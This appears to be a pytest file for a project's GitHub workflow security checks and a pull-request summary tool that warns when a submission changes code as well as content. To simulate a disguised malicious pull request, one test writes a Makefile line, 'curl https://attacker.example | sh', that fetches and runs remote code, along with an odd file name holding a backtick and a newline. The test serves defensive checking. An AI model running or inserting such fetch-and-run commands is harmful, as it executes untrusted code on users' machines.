"""The GitHub workflows and the pull-request summary: actionlint passes on every
workflow, and zizmor finds nothing; each is least-privilege and pinned by commit;
`c2c pr-summary` says what changed, and warns first when more than content changed."""

from __future__ import annotations

import re
import shutil
import subprocess
from datetime import date
from pathlib import Path

import pytest
import yaml

from c2c_cli.pr_summary import changed_files, summary

from conftest import ROOT, TINY

WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
ACTIONLINT = ROOT / ".venv" / "bin" / "actionlint"
ZIZMOR = ROOT / ".venv" / "bin" / "zizmor"


def test_there_are_workflows_for_pull_requests_and_publishing():
    triggers = {path.name: yaml.safe_load(path.read_text())[True] for path in WORKFLOWS}  # `on:` reads as True
    assert any("pull_request" in t for t in triggers.values())
    assert any("schedule" in t and "push" in t for t in triggers.values())


@pytest.mark.parametrize("workflow", WORKFLOWS, ids=lambda p: p.name)
def test_actionlint_passes(workflow):
    result = subprocess.run([str(ACTIONLINT), "-no-color", str(workflow)], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize("workflow", WORKFLOWS, ids=lambda p: p.name)
def test_least_privilege_and_pinned(workflow):
    text = workflow.read_text("utf-8")
    data = yaml.safe_load(text)
    assert "pull_request_target" not in data[True]  # `on:` reads as True
    assert data["permissions"] == {"contents": "read"}, "the default token is read-only; jobs ask for more"
    for job in data["jobs"].values():
        for permission, level in (job.get("permissions") or {}).items():
            assert level in ("read", "write") and permission in ("contents", "pages", "id-token", "issues")
    for line in re.findall(r"uses:.*", text):
        # A tag can be moved to other code; a commit cannot. The comment says which release it is.
        assert re.fullmatch(r"uses: [\w.-]+/[\w.-]+(/[\w./-]+)?@[0-9a-f]{40}  # v\d+\.\d+\.\d+", line), \
            f"{line!r} is not pinned to a full commit SHA with its version in a comment (# vX.Y.Z)"


def test_zizmor_finds_nothing():
    """zizmor (the GitHub Actions security linter) at its default level, offline: no
    unpinned actions, no template injection, no over-broad permissions or leaked credentials."""
    result = subprocess.run([str(ZIZMOR), "--offline", "--no-progress", str(ROOT / ".github" / "workflows")],
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0 and "No findings to report" in result.stdout, result.stdout + result.stderr


def test_the_pin_check_and_zizmor_catch_a_tag(tmp_path):
    """The two checks above can fail: a workflow using an action by tag is caught by both."""
    bad = tmp_path / ".github" / "workflows"
    bad.mkdir(parents=True)
    (bad / "bad.yml").write_text((ROOT / ".github" / "workflows" / "pull-request.yml").read_text("utf-8").replace(
        "actions/checkout@11d5960a326750d5838078e36cf38b85af677262  # v4.4.0", "actions/checkout@v4"), "utf-8")
    result = subprocess.run([str(ZIZMOR), "--offline", "--no-progress", str(bad)], capture_output=True, text=True,
                            timeout=120)
    assert result.returncode != 0 and "unpinned-uses" in result.stdout
    with pytest.raises(AssertionError, match="not pinned to a full commit SHA"):
        test_least_privilege_and_pinned(bad / "bad.yml")


def _git(cwd: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True,
                   env={"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org", "GIT_COMMITTER_NAME": "t",
                        "GIT_COMMITTER_EMAIL": "t@example.org", "HOME": str(cwd), "PATH": "/usr/bin:/bin",
                        # commits dated by the test, not the machine's clock
                        "GIT_AUTHOR_DATE": "2026-11-20T12:00:00+00:00", "GIT_COMMITTER_DATE": "2026-11-20T12:00:00+00:00"})


def test_pr_summary_says_what_was_added_changed_and_warned(tmp_path):
    repo = tmp_path / "repo"
    content = repo / "content"
    shutil.copytree(TINY, content)
    _git(repo, "init", "-q", "-b", "main")
    _git(repo, "add", ".")
    _git(repo, "commit", "-q", "-m", "base")
    text = (content / "pledges" / "alpha-trust-2021.md").read_text("utf-8")
    (content / "pledges" / "alpha-trust-2026.md").write_text(
        text.replace("held: 2021-05-12", "held: 2026-05-12").replace("approved: 2021-06-01", "approved: 2026-06-01")
        .replace("review_due: 2022-06-01", "review_due: 2027-06-01").replace("lead: JT", "lead: Jane Smith")
        .replace("2021-09-10", "2026-09-10").replace("2022-01-10", "2026-10-10")
        .replace("due: 2022-01-01", "due: 2027-01-01").replace("due: 2026-01-31", "due: 2026-12-31"), "utf-8")
    org = content / "organisations" / "beta-housing.yaml"
    org.write_text(org.read_text("utf-8") + "\n", "utf-8")
    _git(repo, "checkout", "-q", "-b", "submission")
    _git(repo, "add", ".")
    _git(repo, "commit", "-q", "-m", "a new commitment")
    changes = changed_files(content, "main")
    assert changes == [("M", "content/organisations/beta-housing.yaml", True),
                       ("A", "content/pledges/alpha-trust-2026.md", True)]
    text = summary(content, changes, date(2026, 11, 23), 365)
    assert text.startswith("# C2C submission check\n\n## What this pull request changes\n")  # no warning: content only
    assert "CAUTION" not in text
    assert "- Added commitment `content/pledges/alpha-trust-2026.md`: Alpha Health Trust, roundtable held 2026-05-12: " \
           "6 pledges (Universal Prevention 1, Targeted Prevention 1, Crisis Prevention & Relief 1, Recovery 1, " \
           "Move-On Support 1, Settled Home 1); 6 actions, 4 without a lead" in text
    assert "- Changed organisation `content/organisations/beta-housing.yaml`: Beta Housing" in text
    assert "None: every file passed the checks." in text
    assert "'Jane Smith' looks like a person\\'s full name" in text or "Jane Smith" in text
    assert "stale" not in text  # the stale helpline did not change in this pull request


def test_pr_summary_warns_first_when_more_than_content_changed(tmp_path):
    """A pull request that edits code, settings or workflows as well as a pledge starts
    with a warning listing those files, before anything that could reassure a reviewer."""
    repo = tmp_path / "repo"
    content = repo / "content"
    shutil.copytree(TINY, content)
    (repo / "Makefile").write_text("install:\n\ttrue\n", "utf-8")
    (repo / ".github" / "workflows").mkdir(parents=True)
    (repo / ".github" / "workflows" / "publish.yml").write_text("name: Publish\n", "utf-8")
    _git(repo, "init", "-q", "-b", "main")
    _git(repo, "add", ".")
    _git(repo, "commit", "-q", "-m", "base")
    _git(repo, "checkout", "-q", "-b", "looks-like-a-pledge")
    org = content / "organisations" / "beta-housing.yaml"
    org.write_text(org.read_text("utf-8") + "\n", "utf-8")
    (repo / "Makefile").write_text("install:\n\tcurl https://attacker.example | sh\n", "utf-8")
    (repo / ".github" / "workflows" / "publish.yml").unlink()
    (repo / "plugins" / "c2c_evil").mkdir(parents=True)
    (repo / "plugins" / "c2c_evil" / "__init__.py").write_text("", "utf-8")
    (repo / "odd`name\nwith a line break.py").write_text("", "utf-8")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-q", "-m", "Our 2026 pledges")
    changes = changed_files(content, "main")
    assert [c for c in changes if c.content] == [("M", "content/organisations/beta-housing.yaml", True)]
    assert sorted((c.status, c.path) for c in changes if not c.content) == [
        ("A", "odd`name\nwith a line break.py"), ("A", "plugins/c2c_evil/__init__.py"),
        ("D", ".github/workflows/publish.yml"), ("M", "Makefile")]
    text = summary(content, changes, date(2026, 11, 23), 365)
    head, _, rest = text.partition("## What this pull request changes")
    assert head.startswith("# C2C submission check\n\n> [!CAUTION]\n> **This pull request changes more than "
                           "content.** 4 files outside `content/` change the code")
    for line in ("> - `.github/workflows/publish.yml` (removed)", "> - `Makefile` (changed)",
                 "> - `plugins/c2c_evil/__init__.py` (added)", "> - `` odd`name\\nwith a line break.py `` (added)"):
        assert line in head.splitlines(), line
    assert "**Do not merge this as a submission.** A maintainer (named in `.github/CODEOWNERS`) must review" in head
    assert "- Changed organisation `content/organisations/beta-housing.yaml`: Beta Housing" in rest
    assert "Makefile" not in rest  # code is listed in the warning only, never as a submission
